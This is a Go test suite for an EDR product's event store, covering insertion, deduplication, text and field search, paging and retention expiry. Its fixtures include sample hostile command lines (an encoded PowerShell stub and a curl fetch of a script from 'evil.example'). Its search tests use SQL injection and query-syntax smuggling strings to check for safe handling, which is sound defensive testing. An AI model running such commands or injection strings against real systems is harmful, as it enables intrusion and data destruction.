package storetest

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/vigil-edr/vigil/internal/event"
	"github.com/vigil-edr/vigil/internal/eventstore"
	"github.com/vigil-edr/vigil/internal/store"
)

// ev builds a stored event; fields alternate name, value.
func ev(agent string, epoch, seq uint64, host string, at time.Time, cats []string, fields ...string) eventstore.Stored {
	e := &event.Event{Time: at, Product: "linux", Services: []string{"auditd"}, Categories: cats}
	for i := 0; i+1 < len(fields); i += 2 {
		e.Add(fields[i], fields[i+1])
	}
	return eventstore.Stored{AgentID: agent, BootEpoch: epoch, Seq: seq, Host: host, Event: e}
}

var procCat = []string{"process_creation"}

func insert(t *testing.T, b Backend, evs ...eventstore.Stored) []eventstore.Inserted {
	t.Helper()
	res, err := b.Insert(ctx(t), evs)
	must(t, err)
	if len(res) != len(evs) {
		t.Fatalf("Insert returned %d results for %d events", len(res), len(evs))
	}
	return res
}

// indexed waits until the events inserted so far are searchable by text.
func indexed(t *testing.T, b Backend) {
	t.Helper()
	must(t, b.WaitIndexed(ctx(t)))
}

func search(t *testing.T, b Backend, q eventstore.Query) []eventstore.Record {
	t.Helper()
	rs, err := b.Search(ctx(t), q)
	must(t, err)
	return rs
}

func ids(rs []eventstore.Record) []int64 {
	out := []int64{}
	for _, r := range rs {
		out = append(out, r.ID)
	}
	return out
}

var eventTests = []test{
	{"InsertGetRoundTrip", func(t *testing.T, b Backend) {
		s := ev("a1", 7, 1, "web-1", t0, []string{"registry_event", "registry_set"},
			"Image", `C:\Windows\regedit.exe`, "Data", "one", "Data", "two", "Quote", "say \"hi\"\n\ttab \x01 ünï")
		s.BootEpoch = 1 << 63 // the high bit survives the round trip
		res := insert(t, b, s)
		if !res[0].NeedsScan || res[0].Duplicate || res[0].ID == 0 {
			t.Fatalf("Insert = %+v, want a new row needing a scan", res[0])
		}
		r, err := b.Get(ctx(t), res[0].ID)
		must(t, err)
		if r.ID != res[0].ID || r.AgentID != "a1" || r.BootEpoch != 1<<63 || r.Seq != 1 || r.Host != "web-1" ||
			r.Product != "linux" || !slices.Equal(r.Services, []string{"auditd"}) ||
			!slices.Equal(r.Category, []string{"registry_event", "registry_set"}) {
			t.Errorf("Get = %+v", r)
		}
		sameTime(t, "Time", r.Time, t0)
		if !slices.Equal(r.Fields, s.Event.Fields) {
			t.Errorf("Fields = %q, want %q", r.Fields, s.Event.Fields)
		}
		_, err = b.Get(ctx(t), res[0].ID+1000)
		wantErr(t, err, store.ErrNotFound)
	}},
	{"EmptyInsert", func(t *testing.T, b Backend) {
		res, err := b.Insert(ctx(t), nil)
		must(t, err)
		if len(res) != 0 {
			t.Fatalf("Insert(nil) = %v", res)
		}
	}},
	{"DuplicatesKeepFirst", func(t *testing.T, b Backend) {
		first := insert(t, b, ev("a1", 1, 1, "h", t0, procCat, "CommandLine", "first"))[0]
		// Same triple again, in a later batch and twice within one batch,
		// next to a new event and the same seq under another epoch/agent.
		res := insert(t, b,
			ev("a1", 1, 1, "h", t0, procCat, "CommandLine", "second"),
			ev("a1", 1, 2, "h", t0, procCat, "CommandLine", "new"),
			ev("a1", 1, 2, "h", t0, procCat, "CommandLine", "new again"),
			ev("a1", 2, 1, "h", t0, procCat, "CommandLine", "other epoch"),
			ev("a2", 1, 1, "h", t0, procCat, "CommandLine", "other agent"),
		)
		if !res[0].Duplicate || res[0].ID != first.ID || !res[0].NeedsScan {
			t.Errorf("duplicate of an unscanned event = %+v, want Duplicate, ID %d, NeedsScan", res[0], first.ID)
		}
		if res[1].Duplicate || !res[1].NeedsScan {
			t.Errorf("new event = %+v", res[1])
		}
		if !res[2].Duplicate || res[2].ID != res[1].ID {
			t.Errorf("in-batch duplicate = %+v, want Duplicate of %d", res[2], res[1].ID)
		}
		if res[3].Duplicate || res[4].Duplicate {
			t.Errorf("other epoch/agent reported duplicate: %+v %+v", res[3], res[4])
		}
		r, err := b.Get(ctx(t), first.ID)
		must(t, err)
		if v := r.Fields[0].Value; v != "first" {
			t.Errorf("stored copy has %q, want the first", v)
		}
		n, _, err := b.Stats(ctx(t))
		must(t, err)
		if n != 4 {
			t.Errorf("Stats count = %d, want 4", n)
		}
		// Once scanned, a duplicate needs no scan.
		must(t, b.MarkScanned(ctx(t), []int64{first.ID}))
		again := insert(t, b, ev("a1", 1, 1, "h", t0, procCat))[0]
		if !again.Duplicate || again.NeedsScan || again.ID != first.ID {
			t.Errorf("duplicate of a scanned event = %+v", again)
		}
	}},
	{"ReorderedInserts", func(t *testing.T, b Backend) {
		var got []eventstore.Inserted
		for _, seq := range []uint64{5, 2, 9, 1} {
			got = append(got, insert(t, b, ev("a1", 1, seq, "h", t0.Add(time.Duration(seq)*time.Second), procCat))...)
		}
		seen := map[int64]bool{}
		for _, g := range got {
			if g.Duplicate || seen[g.ID] {
				t.Fatalf("out-of-order inserts: %+v", got)
			}
			seen[g.ID] = true
		}
		rs := search(t, b, eventstore.Query{})
		var seqs []uint64
		for _, r := range rs {
			seqs = append(seqs, r.Seq)
		}
		if !slices.Equal(seqs, []uint64{9, 5, 2, 1}) {
			t.Errorf("search order by time = %v, want 9 5 2 1", seqs)
		}
	}},
	{"NeedsScanAfterCrash", func(t *testing.T, b Backend) {
		r, ok := b.(Reopener)
		if !ok {
			t.Skip("backend cannot be reopened")
		}
		res := insert(t, b,
			ev("a1", 1, 1, "h", t0, procCat),
			ev("a1", 1, 2, "h", t0, procCat),
		)
		must(t, b.MarkScanned(ctx(t), []int64{res[0].ID}))
		// Crash before event 2 was scanned; JetStream redelivers both.
		b = r.Reopen(t)
		again := insert(t, b, ev("a1", 1, 1, "h", t0, procCat), ev("a1", 1, 2, "h", t0, procCat))
		if !again[0].Duplicate || again[0].NeedsScan {
			t.Errorf("scanned event after reopen = %+v, want Duplicate without scan", again[0])
		}
		if !again[1].Duplicate || !again[1].NeedsScan || again[1].ID != res[1].ID {
			t.Errorf("unscanned event after reopen = %+v, want Duplicate needing a scan", again[1])
		}
		must(t, b.MarkScanned(ctx(t), []int64{res[1].ID, 999999})) // unknown ids are ignored
		if x := insert(t, b, ev("a1", 1, 2, "h", t0, procCat))[0]; x.NeedsScan {
			t.Errorf("after MarkScanned: %+v", x)
		}
	}},
	{"SearchFilters", searchFilters},
	{"SearchText", searchText},
	{"SearchFields", searchFields},
	{"SearchPaging", searchPaging},
	{"ExpireByAge", func(t *testing.T, b Backend) {
		var evs []eventstore.Stored
		for i := range 10 {
			evs = append(evs, ev("a1", 1, uint64(i+1), "h", t0.Add(time.Duration(i)*time.Hour), procCat, "Token", fmt.Sprintf("zeta%d common", i)))
		}
		insert(t, b, evs...)
		indexed(t, b)
		now := t0.Add(10 * time.Hour)
		// Keep events from the last 4 hours: hours 6..9 (hour 6 is exactly 4 h old and kept).
		n, err := b.Expire(ctx(t), eventstore.Retention{MaxAge: 4 * time.Hour}, now)
		must(t, err)
		if n != 6 {
			t.Errorf("Expire deleted %d, want 6", n)
		}
		count, _, err := b.Stats(ctx(t))
		must(t, err)
		if count != 4 {
			t.Errorf("count after expiry = %d, want 4", count)
		}
		if rs := search(t, b, eventstore.Query{Text: "zeta2"}); len(rs) != 0 {
			t.Errorf("expired event still found by text: %v", ids(rs))
		}
		if rs := search(t, b, eventstore.Query{Text: "common"}); len(rs) != 4 {
			t.Errorf("text search after expiry found %d, want 4", len(rs))
		}
		if rs := search(t, b, eventstore.Query{Category: "process_creation"}); len(rs) != 4 {
			t.Errorf("category search after expiry found %d, want 4", len(rs))
		}
		n, err = b.Expire(ctx(t), eventstore.Retention{MaxAge: 4 * time.Hour}, now)
		must(t, err)
		if n != 0 {
			t.Errorf("second Expire deleted %d", n)
		}
		// An expired triple may be stored again (it is new to the store).
		if r := insert(t, b, evs[0])[0]; r.Duplicate {
			t.Errorf("re-inserting an expired event: %+v", r)
		}
	}},
	{"ExpireByBytes", func(t *testing.T, b Backend) {
		var evs []eventstore.Stored
		for i := range 20 {
			evs = append(evs, ev("a1", 1, uint64(i+1), "h", t0.Add(time.Duration(20-i)*time.Minute), procCat,
				"Payload", fmt.Sprintf("row%d %0200d", i, i)))
		}
		insert(t, b, evs...)
		indexed(t, b)
		count, total, err := b.Stats(ctx(t))
		must(t, err)
		if count != 20 || total < 20*200 {
			t.Fatalf("Stats = %d events, %d bytes", count, total)
		}
		limit := total / 2
		n, err := b.Expire(ctx(t), eventstore.Retention{MaxBytes: limit}, t0)
		must(t, err)
		count2, total2, err := b.Stats(ctx(t))
		must(t, err)
		if total2 > limit || count2 != 20-n || n < 9 || n > 11 {
			t.Errorf("after Expire(MaxBytes=%d): deleted %d, left %d events, %d bytes", limit, n, count2, total2)
		}
		// The oldest events (by time: the highest i) went first.
		rs := search(t, b, eventstore.Query{Limit: 1000})
		oldestKept := rs[len(rs)-1].Time
		for _, e := range evs {
			if e.Event.Time.Before(oldestKept) {
				if got := search(t, b, eventstore.Query{Text: e.Event.Fields[0].Value[:5]}); len(got) != 0 {
					t.Errorf("event at %v older than the oldest kept (%v) still searchable", e.Event.Time, oldestKept)
				}
			}
		}
		if len(rs) != int(count2) {
			t.Errorf("search finds %d events, Stats says %d", len(rs), count2)
		}
		// Everything goes when the limit is tiny.
		_, err = b.Expire(ctx(t), eventstore.Retention{MaxBytes: 1}, t0)
		must(t, err)
		count3, total3, err := b.Stats(ctx(t))
		must(t, err)
		if count3 != 0 || total3 != 0 {
			t.Errorf("after Expire(MaxBytes=1): %d events, %d bytes", count3, total3)
		}
	}},
}

func searchFilters(t *testing.T, b Backend) {
	res := insert(t, b,
		ev("a1", 1, 1, "web-1", t0, procCat, "Image", "/bin/sh"),
		ev("a1", 1, 2, "web-1", t0.Add(time.Minute), []string{"network_connection"}, "DestinationPort", "443"),
		ev("a2", 1, 1, "db-1", t0.Add(2*time.Minute), procCat, "Image", "/usr/bin/psql"),
		ev("a2", 1, 2, "db-1", t0.Add(3*time.Minute), []string{"registry_event", "registry_set"}, "TargetObject", "x"),
	)
	id := func(i int) int64 { return res[i].ID }
	for _, tc := range []struct {
		name string
		q    eventstore.Query
		want []int64
	}{
		{"all", eventstore.Query{}, []int64{id(3), id(2), id(1), id(0)}},
		{"host", eventstore.Query{Host: "web-1"}, []int64{id(1), id(0)}},
		{"agent", eventstore.Query{AgentID: "a2"}, []int64{id(3), id(2)}},
		{"category", eventstore.Query{Category: "process_creation"}, []int64{id(2), id(0)}},
		{"second category", eventstore.Query{Category: "registry_set"}, []int64{id(3)}},
		{"category and host", eventstore.Query{Category: "process_creation", Host: "db-1"}, []int64{id(2)}},
		{"from inclusive", eventstore.Query{From: t0.Add(time.Minute)}, []int64{id(3), id(2), id(1)}},
		{"to exclusive", eventstore.Query{To: t0.Add(2 * time.Minute)}, []int64{id(1), id(0)}},
		{"window", eventstore.Query{From: t0.Add(time.Minute), To: t0.Add(3 * time.Minute)}, []int64{id(2), id(1)}},
		{"category window", eventstore.Query{Category: "process_creation", From: t0.Add(time.Second)}, []int64{id(2)}},
		{"unknown host", eventstore.Query{Host: "nope"}, []int64{}},
		{"limit", eventstore.Query{Limit: 2}, []int64{id(3), id(2)}},
	} {
		if got := ids(search(t, b, tc.q)); !slices.Equal(got, tc.want) {
			t.Errorf("%s: got %v, want %v", tc.name, got, tc.want)
		}
	}
}

func searchText(t *testing.T, b Backend) {
	res := insert(t, b,
		ev("a1", 1, 1, "h", t0, procCat, "CommandLine", `powershell.exe -enc SQBFAFgA`, "User", "CORP\\alice"),
		ev("a1", 1, 2, "h", t0.Add(time.Second), procCat, "CommandLine", `cmd.exe /c "a OR b*"`, "User", "bob"),
		ev("a1", 1, 3, "h", t0.Add(2*time.Second), procCat, "CommandLine", `near(x) NEAR( y`, "Note", "Straße Überweisung"),
		ev("a1", 1, 4, "h", t0.Add(3*time.Second), procCat, "CommandLine", `/usr/bin/curl http://evil.example/x.sh`),
	)
	indexed(t, b)
	id := func(i int) int64 { return res[i].ID }
	for _, tc := range []struct {
		text string
		want []int64
	}{
		{"powershell", []int64{id(0)}},
		{"POWERSHELL", []int64{id(0)}},
		{"alice", []int64{id(0)}},            // any field
		{"powershell alice", []int64{id(0)}}, // all terms, across fields
		{"powershell bob", []int64{}},
		{"exe", []int64{id(1), id(0)}},
		{`"a OR b*`, []int64{id(1)}}, // FTS5 syntax is plain text
		{`a OR b`, []int64{id(1)}},
		{`NEAR(`, []int64{id(2)}},
		{`NEAR(x, y)`, []int64{id(2)}},
		{`evil.example/x.sh`, []int64{id(3)}},
		{`http://evil.example`, []int64{id(3)}},
		{`curl -`, []int64{id(3)}},
		{`straße`, []int64{id(2)}},
		{`überweisung`, []int64{id(2)}},
		{`*`, []int64{}},
		{`"`, []int64{}},
		{`'); DROP TABLE events; --`, []int64{}},
		{`CommandLine:powershell`, []int64{}}, // no column filters: "commandline" is not a value token
		{`^powershell`, []int64{id(0)}},
		{`{CommandLine}: x`, []int64{}},
		{`AND`, []int64{}},
		{`NOT powershell`, []int64{}},
	} {
		got, err := b.Search(ctx(t), eventstore.Query{Text: tc.text})
		if err != nil {
			t.Errorf("Search(%q): %v", tc.text, err)
			continue
		}
		if g := ids(got); !slices.Equal(g, tc.want) {
			t.Errorf("Search(%q) = %v, want %v", tc.text, g, tc.want)
		}
	}
	// Text combines with other filters.
	if got := ids(search(t, b, eventstore.Query{Text: "exe", From: t0.Add(time.Second)})); !slices.Equal(got, []int64{id(1)}) {
		t.Errorf("text and time: %v", got)
	}
	// All events still exist after the hostile queries.
	if n, _, err := b.Stats(ctx(t)); err != nil || n != 4 {
		t.Errorf("Stats = %d, %v", n, err)
	}
}

func searchFields(t *testing.T, b Backend) {
	res := insert(t, b,
		ev("a1", 1, 1, "h", t0, procCat, "Image", `C:\Windows\System32\cmd.exe`, "User", "alice"),
		ev("a1", 1, 2, "h", t0.Add(time.Second), procCat, "Image", `C:\Windows\System32\cmd.exe.bak`, "User", "bob"),
		ev("a1", 1, 3, "h", t0.Add(2*time.Second), procCat, "ParentImage", `C:\Windows\System32\cmd.exe`, "User", "alice"),
		ev("a1", 1, 4, "h", t0.Add(3*time.Second), procCat, "Data", "x", "Data", "***", "Data", ""),
	)
	indexed(t, b)
	id := func(i int) int64 { return res[i].ID }
	f := func(kv ...string) []eventstore.FieldFilter {
		var out []eventstore.FieldFilter
		for i := 0; i < len(kv); i += 2 {
			out = append(out, eventstore.FieldFilter{Name: kv[i], Value: kv[i+1]})
		}
		return out
	}
	for _, tc := range []struct {
		name   string
		fields []eventstore.FieldFilter
		want   []int64
	}{
		{"exact value", f("Image", `C:\Windows\System32\cmd.exe`), []int64{id(0)}},
		{"case-insensitive", f("image", `c:\windows\system32\CMD.EXE`), []int64{id(0)}},
		{"whole value, not substring", f("Image", `cmd.exe`), []int64{}},
		{"two filters", f("User", "alice", "Image", `C:\Windows\System32\cmd.exe`), []int64{id(0)}},
		{"same value other field", f("ParentImage", `C:\Windows\System32\cmd.exe`), []int64{id(2)}},
		{"multi-valued field", f("Data", "x"), []int64{id(3)}},
		{"value without tokens", f("Data", "***"), []int64{id(3)}},
		{"empty value", f("Data", ""), []int64{id(3)}},
		{"unknown field", f("Nope", "alice"), []int64{}},
		{"hostile value", f("User", `alice" OR "bob`), []int64{}},
	} {
		if got := ids(search(t, b, eventstore.Query{Fields: tc.fields})); !slices.Equal(got, tc.want) {
			t.Errorf("%s: got %v, want %v", tc.name, got, tc.want)
		}
	}
	if got := ids(search(t, b, eventstore.Query{Fields: f("User", "alice"), Text: "parentimage cmd"})); !slices.Equal(got, []int64{}) {
		t.Errorf("field names are not text: %v", got)
	}
	if got := ids(search(t, b, eventstore.Query{Fields: f("User", "alice"), Text: "cmd"})); !slices.Equal(got, []int64{id(2), id(0)}) {
		t.Errorf("fields and text: %v", got)
	}
}

func searchPaging(t *testing.T, b Backend) {
	var evs []eventstore.Stored
	for i := range 25 {
		// Pairs of events share a timestamp, so order falls back to row id.
		cat := procCat
		if i%3 == 0 {
			cat = []string{"file_event"}
		}
		evs = append(evs, ev("a1", 1, uint64(i+1), "h", t0.Add(time.Duration(i/2)*time.Second), cat, "Word", "page"))
	}
	insert(t, b, evs...)
	indexed(t, b)
	for _, q := range []eventstore.Query{
		{Limit: 4},
		{Limit: 4, Category: "process_creation"},
		{Limit: 4, Text: "page"},
		{Limit: 4, Host: "h", Fields: []eventstore.FieldFilter{{Name: "word", Value: "PAGE"}}},
	} {
		all := search(t, b, eventstore.Query{Category: q.Category, Text: q.Text, Host: q.Host, Fields: q.Fields, Limit: 1000})
		var paged []eventstore.Record
		for {
			page := search(t, b, q)
			if len(page) > q.Limit {
				t.Fatalf("page of %d > limit %d", len(page), q.Limit)
			}
			paged = append(paged, page...)
			if len(page) < q.Limit {
				break
			}
			q.Before = page[len(page)-1].ID
		}
		if !slices.Equal(ids(paged), ids(all)) {
			t.Errorf("%+v: paged %v, want %v", q, ids(paged), ids(all))
		}
		for i := 1; i < len(all); i++ {
			if all[i].Time.After(all[i-1].Time) || all[i].Time.Equal(all[i-1].Time) && all[i].ID > all[i-1].ID {
				t.Errorf("not newest first at %d: %v then %v", i, all[i-1], all[i])
			}
		}
	}
	// The default limit is 100, the maximum 1,000.
	var many []eventstore.Stored
	for i := range 1100 {
		many = append(many, ev("a9", 1, uint64(i+1), "bulk", t0, procCat, "N", fmt.Sprint(i)))
	}
	insert(t, b, many...)
	if n := len(search(t, b, eventstore.Query{Host: "bulk"})); n != 100 {
		t.Errorf("default limit returned %d", n)
	}
	if n := len(search(t, b, eventstore.Query{Host: "bulk", Limit: 5000})); n != 1000 {
		t.Errorf("limit 5000 returned %d, want the maximum 1000", n)
	}
}
